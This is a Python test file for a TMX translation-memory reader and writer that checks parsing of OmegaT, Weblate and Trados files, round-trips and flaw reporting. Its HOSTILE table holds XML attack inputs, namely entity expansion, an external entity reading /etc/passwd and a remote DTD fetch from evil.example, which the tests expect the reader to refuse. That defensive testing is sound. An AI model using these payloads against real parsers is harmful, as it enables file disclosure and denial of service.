"""TMX: what others write is read, what is hostile or broken is not, what we write comes back the same."""

import io
from datetime import UTC, datetime
from xml.etree import ElementTree

import pytest

from rapport.language.translation.entries import Entry, Key
from rapport.language.translation.exchange.reading import LONGEST, units_in
from rapport.language.translation.exchange.units import BadFileError, Unit, Wrong
from rapport.language.translation.exchange.writing import tmx_of

AT = datetime(2026, 11, 23, 8, 30, tzinfo=UTC)
# As OmegaT, Weblate (translate-toolkit) and Trados write them.
OMEGAT = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE tmx SYSTEM "tmx11.dtd">
<tmx version="1.1">
  <header creationtool="OmegaT" o-tmf="OmegaT TMX" adminlang="EN-US" datatype="plaintext"
   creationtoolversion="6.0" segtype="sentence" srclang="EN-US"/>
  <body>
    <tu><tuv lang="EN-US"><seg>Your order &amp; invoice are on the way.</seg></tuv>
        <tuv lang="PT-BR"><seg>Seu pedido e a fatura estão a caminho.</seg></tuv></tu>
  </body>
</tmx>"""
WEBLATE = """<?xml version='1.0' encoding='utf-8'?>
<!DOCTYPE tmx SYSTEM "tmx14.dtd">
<tmx version="1.4">
  <header creationtool="Translate Toolkit" creationtoolversion="3.14" segtype="sentence" o-tmf="UTF-8"
   adminlang="en" srclang="en" datatype="PlainText"/>
  <body><tu><note>from the shop</note><tuv xml:lang="en"><seg>Save</seg></tuv>
  <tuv xml:lang="cs"><seg>Uložit</seg></tuv><tuv xml:lang="zh_CN"><seg>保存</seg></tuv></tu></body>
</tmx>"""
TRADOS = """<tmx version="1.4b"><header creationtool="SDL" srclang="*all*" segtype="sentence"/><body>
<tu creationdate="20200101T000000Z"><prop type="x-Origin">TM</prop>
<tuv xml:lang="de-DE"><prop type="x-Context">1</prop><seg>Bitte <bpt i="1" type="b">&lt;b&gt;</bpt>sofort<ept
 i="1">&lt;/b&gt;</ept> an <ph x="1">{name}</ph>
   melden.</seg></tuv>
<tuv xml:lang="fr-FR"><seg>Merci de contacter <ph x="1">{name}</ph> <hi>vite</hi>.</seg></tuv></tu>
</body></tmx>"""


def read(text, encoding="utf-8"):
    return list(units_in(io.BytesIO(text.encode(encoding))))


def test_what_others_write_is_understood():
    said = ("Your order & invoice are on the way.", "Seu pedido e a fatura estão a caminho.")
    assert read(OMEGAT) == [Unit(1, *said, "en", "pt-BR")]
    assert read(WEBLATE) == [
        Unit(1, "Save", "Uložit", "en", "cs"), Unit(1, "Save", "保存", "en", "zh-Hans")
    ]  # fmt: skip
    assert read(TRADOS) == [
        Unit(
            1,
            "Bitte <b>sofort</b> an {name} melden.",
            "Merci de contacter {name} vite.",
            "de",
            "fr",
        )
    ]
    assert read(OMEGAT.replace("UTF-8", "UTF-16"), "utf-16") == read(OMEGAT)
    assert read("\ufeff" + WEBLATE) == read(WEBLATE)


def _tu(*said, **attributes):
    told = "".join(f' {name}="{value}"' for name, value in attributes.items())
    tuvs = "".join(f'<tuv xml:lang="{tag}"><seg>{text}</seg></tuv>' for tag, text in said)
    return f"<tu{told}>{tuvs}</tu>"


def test_a_unit_that_cannot_be_used_is_told_and_the_others_are_taken():
    good = _tu(("en", "Hello."), ("de", "Hallo."))
    flaws = {
        _tu(("en", "Hello.")): "no target",
        _tu(("en", "Hello."), ("de", " ")): "empty",
        _tu(("en", ""), ("de", "Hallo.")): "empty",
        _tu(("klingonese", "x"), ("de", "Hallo.")): "language",
        _tu(("", "x"), ("de", "Hallo.")): "language",
        _tu(("en-GB", "Hello."), ("en-US", "Hi.")): "same language",
        _tu(("fr", "Bonjour."), ("de", "Hallo.")): "no source",
        _tu(("en", "x" * (LONGEST + 9)), ("de", "Hallo.")): "too long",
        "<tu/>": "no source",
        '<tu><tuv xml:lang="en"/><tuv xml:lang="de"/></tu>': "empty",
    }
    body = good + good.join(flaws) + good
    found = read(f'<tmx version="1.4"><header srclang="en"/><body>{body}</body></tmx>')
    assert [each.flaw for each in found if isinstance(each, Wrong)] == list(flaws.values())
    assert [each.number for each in found if isinstance(each, Wrong)] == list(range(2, 21, 2))
    assert sum(isinstance(each, Unit) for each in found) == len(flaws) + 1


HOSTILE = {
    '<!DOCTYPE tmx [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><tmx>&b;</tmx>': "hostile",
    '<!DOCTYPE tmx [<!ENTITY a SYSTEM "file:///etc/passwd">]><tmx>&a;</tmx>': "hostile",
    '<!DOCTYPE tmx [<!ENTITY % a SYSTEM "http://evil.example/x.dtd">%a;]><tmx/>': "hostile",
    '<!DOCTYPE tmx [<!ATTLIST tmx version CDATA "1.4">]><tmx/>': "hostile",
    '<!DOCTYPE tmx SYSTEM "tmx14.dtd"><tmx><body><tu><tuv>&evil;</tuv></tu></body></tmx>': "hostile",
    "<tmx><body>&evil;</body></tmx>": "broken",
    "<html><body>Sign in</body></html>": "foreign",
    "": "foreign",
    "source,target": "broken",
    "<tmx><body>": "broken",
    OMEGAT[:-40]: "broken",
    OMEGAT.replace("UTF-8", "KLINGON-8"): "broken",
    OMEGAT.replace("</tuv>", "</tu>", 1): "broken",
    "<tmx>\x00</tmx>": "broken",
}


def test_what_is_hostile_or_broken_is_refused(monkeypatch):
    import socket
    import urllib.request

    def never(*arguments, **named):
        raise AssertionError("something was fetched")

    monkeypatch.setattr(urllib.request, "urlopen", never)
    monkeypatch.setattr(socket, "getaddrinfo", never)
    misses = []
    for text, flaw in HOSTILE.items():
        try:
            misses.append((text[:60], read(text)))
        except BadFileError as problem:
            if problem.flaw != flaw:
                misses.append((text[:60], problem.flaw))
    assert not misses
    with pytest.raises(BadFileError) as problem:
        read(OMEGAT.replace("</tuv>", "</tu>", 1))
    assert problem.value.line == 7


def test_elements_within_elements_without_end_cost_nothing():
    deep = "<sub>" * 30_000 + "x" + "</sub>" * 30_000
    text = f'<tmx><header srclang="en"/><body>{_tu(("en", deep), ("de", "y"))}</body></tmx>'
    assert [each.source for each in read(text)] == ["x"]


ENTRIES = [
    Entry(Key("Order ⟦code0⟧ has shipped.", "en", "ja", "formal"), "ご注文⟦code0⟧を発送。", "correction"),
    Entry(Key("Label <b> & \"quotes\"", "en", "de", "", "a1b2c3"), "Etikett <b> & „so“", "provider", "DeepL"),
    Entry(Key(" two  spaces\tand\nlines\r\n", "el-Latn", "zh-Hant"), " 二 \r 行 ", "correction"),
    Entry(Key("Hi.", "en-GB", "de-AT", "informal"), "Servus.", "provider", "A & B <x>"),
]  # fmt: skip


def test_what_we_write_comes_back_as_it_was_and_others_can_read_it():
    rows = [(f"name {number}", entry, AT) for number, entry in enumerate(ENTRIES)]
    written = "".join(tmx_of(rows, version="1.2", source="", at=AT))
    back = [
        Entry(
            Key(each.source, each.source_language, each.target_language, each.register, each.glossary),
            each.target, each.origin, each.provider,
        )
        for each in read(written)
    ]  # fmt: skip
    assert back == ENTRIES
    tree = ElementTree.fromstring(written)  # noqa: S314 (our own)
    header = tree.find("header").attrib
    needed = "creationtool creationtoolversion segtype o-tmf adminlang srclang datatype"
    assert set(needed.split()) <= set(header) and (tree.get("version"), header["srclang"]) == (
        "1.4",
        "*all*",
    )
    assert (header["segtype"], header["creationdate"]) == ("sentence", "20261123T083000Z")
    tu = tree.find("body/tu")
    assert [each.tag for each in tu] == ["prop", "prop", "tuv", "tuv"]
    lang = "{http://www.w3.org/XML/1998/namespace}lang"
    assert [each.get(lang) for each in tu.iter("tuv")] == ["en", "ja"]
    assert 'srclang="en"' in "".join(tmx_of([], version="1", source="en", at=AT))


def test_signs_that_xml_knows_not_are_left_out():
    entry = Entry(Key("a\x0bb\ud800c", "en", "de"), "d\x00e", "correction")
    (back,) = read("".join(tmx_of([("n", entry, None)], version="1", at=AT)))
    assert (back.source, back.target) == ("abc", "de")
